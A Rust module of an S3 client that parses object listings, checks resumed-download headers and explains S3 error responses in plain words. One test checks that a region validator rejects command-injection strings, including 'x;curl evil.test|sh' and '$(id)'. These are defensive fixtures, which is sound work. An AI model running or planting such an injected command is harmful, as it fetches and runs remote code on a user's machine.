//! What S3 answers: pages of keys, objects, and what an answer that is no success means.

use std::io::Cursor;
use std::time::Duration;

use bytes::Bytes;
use reqwest::header::{self, HeaderMap};
use reqwest::{Response, StatusCode};
use rusty_s3::actions::ListObjectsV2;
use tokio::time::timeout;
use url::form_urlencoded;

use super::access::{self, Access};
use crate::delivery::plain::{plain, shortened};
use crate::redact::known;

/// Longest wait for an answer to begin, and for each piece of it. Chosen.
pub(super) const PATIENCE: Duration = Duration::from_secs(30);
/// What is said of an object that is not the one of the list.
pub(super) const CHANGED: &str = "the object has changed since it was listed";
/// Bytes of an error's body that are looked at.
const ERROR: usize = 16 << 10;

/// What went wrong with a bucket or an object, in words, with what to do.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{says}")]
pub(super) struct S3Error {
    says: String,
    /// Whether asking again may help.
    passes: bool,
}

impl S3Error {
    /// A server may repeat in a name or a message what it was asked with.
    pub(super) fn new(says: impl Into<String>) -> S3Error {
        S3Error {
            says: known::masked_in_answer(says.into()),
            passes: false,
        }
    }

    pub(super) fn passing(says: impl Into<String>) -> S3Error {
        S3Error {
            passes: true,
            ..S3Error::new(says)
        }
    }
}

impl S3Error {
    /// Whether asking again may help.
    pub(super) const fn passes(&self) -> bool {
        self.passes
    }
}

impl From<access::AccessError> for S3Error {
    fn from(error: access::AccessError) -> S3Error {
        S3Error::new(error.to_string())
    }
}

/// One object of a list.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Listed {
    pub(super) key: String,
    pub(super) size: u64,
    /// As the server spells it, with its quotes.
    pub(super) etag: String,
    /// When it was put there, as the server spells it.
    pub(super) modified: String,
}

impl Listed {
    /// The ETag as a condition of a request spells it. None where it tells no two versions apart: where it is weak
    /// (`W/"…"`), or there is none.
    pub(super) fn strong_etag(&self) -> Option<String> {
        let etag = self.etag.trim();
        let inner = etag.trim_matches('"');
        (!inner.is_empty() && !etag.starts_with("W/")).then(|| format!("\"{inner}\""))
    }
}

/// One page of keys.
#[derive(Debug)]
pub(super) struct Page {
    pub(super) objects: Vec<Listed>,
    pub(super) next: Option<String>,
}

/// Whether an answer is the rest of the listed object from a place on, and not of another version or from elsewhere: a
/// server may look neither at the condition nor at the range.
pub(super) fn is_asked_for(
    status: StatusCode,
    headers: &HeaderMap,
    listed: &Listed,
    from: u64,
) -> Result<(), S3Error> {
    let text = |name| headers.get(name).and_then(|value| value.to_str().ok());
    let bare = |etag: &str| {
        etag.trim()
            .trim_start_matches("W/")
            .trim_matches('"')
            .to_owned()
    };
    let etag = text(header::ETAG).map(bare);
    if etag.is_some_and(|etag| listed.strong_etag().is_some() && etag != bare(&listed.etag)) {
        return Err(S3Error::new(CHANGED));
    }
    match (from, status) {
        (0, StatusCode::PARTIAL_CONTENT) => Err(S3Error::new(
            "the server gave a part of the object where all of it was asked for",
        )),
        (0, _) => Ok(()),
        (_, StatusCode::PARTIAL_CONTENT) => {
            let range = text(header::CONTENT_RANGE).and_then(|range| range.strip_prefix("bytes "));
            let part = range.and_then(|range| range.split_once('/'));
            let (start, size) = part.unwrap_or_default();
            let starts = start.split('-').next().and_then(|at| at.parse().ok()) == Some(from);
            let is_its_size = size == "*" || size.parse() == Ok(listed.size);
            match starts && is_its_size {
                true => Ok(()),
                false => Err(S3Error::new(
                    "the server went on at another place of the object than was asked for",
                )),
            }
        }
        _ => Err(S3Error::new(
            "the server can't go on in the middle of an object",
        )),
    }
}

/// The next piece of an answer.
pub(super) async fn piece(response: &mut Response) -> Result<Option<Bytes>, S3Error> {
    match timeout(PATIENCE, response.chunk()).await {
        Ok(Ok(piece)) => Ok(piece),
        Ok(Err(_)) => Err(S3Error::passing("the answer broke off")),
        Err(_) => Err(S3Error::passing(format!(
            "the answer stalled for {} s",
            PATIENCE.as_secs()
        ))),
    }
}

/// Reads a page of keys.
pub(super) fn page(body: &[u8]) -> Result<Page, S3Error> {
    let not_a_list =
        || S3Error::new("the answer is no list of objects; is the endpoint one of S3?");
    // The reader takes any root element, and another page would be an empty list.
    if memchr::memmem::find(body, b"<ListBucketResult").is_none() {
        return Err(not_a_list());
    }
    let list = ListObjectsV2::parse_response_from_reader(Cursor::new(body));
    let list = list.map_err(|_| not_a_list())?;
    // Some servers don't look at what they were asked for, and give keys as they are.
    let is_encoded = memchr::memmem::find(body, b"<EncodingType>url<").is_some();
    let objects = list.contents.into_iter().map(|object| Listed {
        key: match is_encoded {
            true => decoded(&object.key),
            false => object.key,
        },
        size: object.size,
        etag: object.etag,
        modified: object.last_modified,
    });
    let objects: Vec<Listed> = objects.collect();
    // Their names are shown wherever what is in them is.
    let names = objects.iter().map(|object| object.key.as_str());
    let names = names.collect::<Vec<_>>().join("\n");
    if known::masked_in_answer(names.clone()) != names {
        return Err(S3Error::new(
            "an object is named by a key that this program was given, so none of this list is read",
        ));
    }
    let next = list
        .next_continuation_token
        .filter(|token| !token.is_empty());
    let goes_on = memchr::memmem::find(body, TRUNCATED).is_some_and(|at| {
        let said = body[at + TRUNCATED.len()..].trim_ascii_start();
        said.starts_with(b"true")
    });
    if goes_on && next.is_none() {
        return Err(S3Error::new(
            "the list says that it goes on, and not how: the rest of the objects can't be known",
        ));
    }
    Ok(Page { objects, next })
}

/// A key of a list that was asked for in URL encoding, where a plus is a blank.
fn decoded(key: &str) -> String {
    let query = format!("={key}");
    let mut pairs = form_urlencoded::parse(query.as_bytes());
    pairs
        .next()
        .map_or_else(|| key.to_owned(), |(_, key)| key.into_owned())
}

/// Begins the member of a list that says whether it goes on.
const TRUNCATED: &[u8] = b"<IsTruncated>";

/// What an answer says that is no success.
pub(super) async fn refused(mut response: Response, access: &Access) -> S3Error {
    let status = response.status();
    let region = header_text(&response, "x-amz-bucket-region");
    let mut body = Vec::new();
    while body.len() < ERROR
        && let Ok(Some(piece)) = piece(&mut response).await
    {
        body.extend_from_slice(&piece);
    }
    let body = String::from_utf8_lossy(&body);
    let code = element(&body, "Code").filter(|code| is_code(code));
    let region = region.or_else(|| element(&body, "Region"));
    let region = region.filter(|region| is_region(region));
    explained(status, code.as_deref(), region, access)
}

fn header_text(response: &Response, name: &str) -> Option<String> {
    let value = response.headers().get(name)?.to_str().ok()?;
    Some(fit(value))
}

/// The text of the first element of that name.
fn element(xml: &str, name: &str) -> Option<String> {
    let (_, rest) = xml.split_once(&format!("<{name}>"))?;
    let (text, _) = rest.split_once("</")?;
    Some(fit(text))
}

/// Whether a text is one of S3's codes, which are words: another may repeat what was sent, the signature above all.
fn is_code(text: &str) -> bool {
    text.len() <= 40 && text.bytes().all(|byte| byte.is_ascii_alphabetic())
}

/// Whether a text is the name of a region. It is said how to set it, so nothing else may stand there.
fn is_region(text: &str) -> bool {
    let is_of_name = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-';
    (1..=32).contains(&text.len()) && text.bytes().all(is_of_name)
}

fn fit(text: &str) -> String {
    shortened(&plain(text), 60)
}

fn explained(
    status: StatusCode,
    code: Option<&str>,
    region: Option<String>,
    access: &Access,
) -> S3Error {
    let bucket = access.bucket.name();
    let asked = access.bucket.region();
    let elsewhere = region.filter(|region| region != asked);
    let says = match (status.as_u16(), code.unwrap_or_default(), elsewhere) {
        (300..=400, _, Some(region)) => {
            format!("the bucket {bucket} is in {region}, not in {asked}; set AWS_REGION={region}")
        }
        (300..=399, ..) => format!(
            "the bucket {bucket} is reached at another address ({status}); set AWS_REGION or AWS_ENDPOINT_URL_S3"
        ),
        (_, "NoSuchBucket", _) => format!("there is no bucket {bucket} at {}", access.host),
        (_, "NoSuchKey", _) => "the object is gone since it was listed".to_owned(),
        (412, ..) => CHANGED.to_owned(),
        (_, "InvalidObjectState", _) => "the object is in an archive; restore it first".to_owned(),
        (_, "RequestTimeTooSkewed" | "RequestExpired", _) => {
            "this machine's clock is too far from the server's; set it right".to_owned()
        }
        (_, "ExpiredToken" | "TokenRefreshRequired", _) => {
            "the session token has expired; get new credentials".to_owned()
        }
        (_, "InvalidAccessKeyId", _) => {
            "the server does not know the key in AWS_ACCESS_KEY_ID".to_owned()
        }
        (_, "SignatureDoesNotMatch", _) => {
            "the signature does not fit: check AWS_SECRET_ACCESS_KEY and AWS_REGION".to_owned()
        }
        (401 | 403, code, _) => format!(
            "access is denied ({status}{}): these credentials need s3:ListBucket and s3:GetObject here, and this \
             machine's clock must be right",
            named(code)
        ),
        (404, code, _) => format!(
            "not found ({status}{}): check bucket and endpoint",
            named(code)
        ),
        (_, code, _) => format!("the server refuses ({status}{})", named(code)),
    };
    S3Error {
        says,
        passes: status.is_server_error() || status == StatusCode::TOO_MANY_REQUESTS,
    }
}

fn named(code: &str) -> String {
    match code {
        "" => String::new(),
        code => format!(", {code}"),
    }
}

#[cfg(test)]
mod tests {
    #![expect(clippy::unwrap_used, reason = "a test fails by panicking")]
    use super::*;

    /// A server may look neither at the condition nor at the range, and say so in its answer.
    #[test]
    fn an_answer_is_taken_for_what_was_asked_for_alone() {
        let listed = Listed {
            key: "a".to_owned(),
            size: 1000,
            etag: "\"e\"".to_owned(),
            modified: String::new(),
        };
        let check = |status: u16, etag: &str, range: &str, from: u64, is_right: bool| {
            let mut headers = HeaderMap::new();
            for (name, value) in [(header::ETAG, etag), (header::CONTENT_RANGE, range)] {
                if !value.is_empty() {
                    headers.insert(name, value.parse().unwrap());
                }
            }
            let status = StatusCode::from_u16(status).unwrap();
            let answer = is_asked_for(status, &headers, &listed, from);
            assert_eq!(
                answer.is_ok(),
                is_right,
                "{status} {etag} {range}: {answer:?}"
            );
        };
        check(200, "", "", 0, true);
        check(200, "\"e\"", "", 0, true);
        check(200, "W/\"e\"", "", 0, true);
        check(200, "\"other\"", "", 0, false);
        check(206, "\"e\"", "bytes 0-999/1000", 0, false);
        check(206, "\"e\"", "bytes 300-999/1000", 300, true);
        check(206, "", "bytes 300-999/*", 300, true);
        check(206, "\"other\"", "bytes 300-999/1000", 300, false);
        check(206, "\"e\"", "bytes 200-999/1000", 300, false);
        check(206, "\"e\"", "bytes 300-1999/2000", 300, false);
        check(206, "\"e\"", "", 300, false);
        check(200, "\"e\"", "", 300, false);
    }

    /// What a server says may end up on somebody's command line, and may repeat what it was sent.
    #[test]
    fn of_what_a_server_says_only_names_are_told() {
        for (region, expected) in [
            ("eu-south-2", true),
            ("x;curl evil.test|sh", false),
            ("$(id)", false),
            ("", false),
            (
                "4f1d8c07b93e5a264f1d8c07b93e5a264f1d8c07b93e5a264f1d8c07b93e5a26",
                false,
            ),
        ] {
            assert_eq!(is_region(region), expected, "{region}");
        }
        for (code, expected) in [
            ("SignatureDoesNotMatch", true),
            ("4f1d8c07b93e5a26", false),
            ("FwoGZXIvYXdzEBYaDKey/+=", false),
        ] {
            assert_eq!(is_code(code), expected, "{code}");
        }
    }

    #[test]
    fn a_list_that_goes_on_says_how() {
        let list = |token: &str| {
            let xml = format!(
                "<ListBucketResult><IsTruncated>true</IsTruncated>{token}<Contents><Key>a</Key><LastModified>x</LastModified><ETag>e</ETag><Size>7</Size></Contents></ListBucketResult>"
            );
            page(xml.as_bytes())
        };
        let goes_on = list("<NextContinuationToken>b</NextContinuationToken>").unwrap();
        assert_eq!(goes_on.next.as_deref(), Some("b"));
        let xml = b"<ListBucketResult><IsTruncated> true </IsTruncated></ListBucketResult>";
        assert!(page(xml).is_err());
        assert!(list("").unwrap_err().to_string().contains("can't be known"));
    }

    #[test]
    fn keys_are_read_whatever_is_in_them() {
        let xml = r#"<?xml version="1.0"?><ListBucketResult xmlns="http://s3.amazonaws.com/doc/2006-03-01/">
            <IsTruncated>true</IsTruncated><NextContinuationToken>a+b/=</NextContinuationToken><EncodingType>url</EncodingType>
            <Contents><Key>a%0Ab+c%2B%26%3D/..%2Fx</Key><LastModified>x</LastModified><ETag>&quot;e&quot;</ETag><Size>7</Size></Contents>
            </ListBucketResult>"#;
        let page = page(xml.as_bytes()).unwrap();
        assert_eq!(page.next.as_deref(), Some("a+b/="));
        let expected = Listed {
            key: "a\nb c+&=/../x".to_owned(),
            size: 7,
            etag: "\"e\"".to_owned(),
            modified: "x".to_owned(),
        };
        assert_eq!(page.objects, [expected]);
        for (etag, expected) in [
            ("\"e\"", Some("\"e\"")),
            (" \"e-12\"\n", Some("\"e-12\"")),
            ("e", Some("\"e\"")),
            ("W/\"e\"", None),
            ("\"\"", None),
            ("", None),
        ] {
            let listed = Listed {
                etag: etag.to_owned(),
                ..page.objects[0].clone()
            };
            assert_eq!(listed.strong_etag().as_deref(), expected, "{etag}");
        }
        for wrong in [
            "",
            "{}",
            "<html>",
            "<html>login</html>",
            "<ListBucketResult><Contents><Key>a</Key></Contents>",
        ] {
            assert!(super::page(wrong.as_bytes()).is_err(), "{wrong}");
        }
    }
}
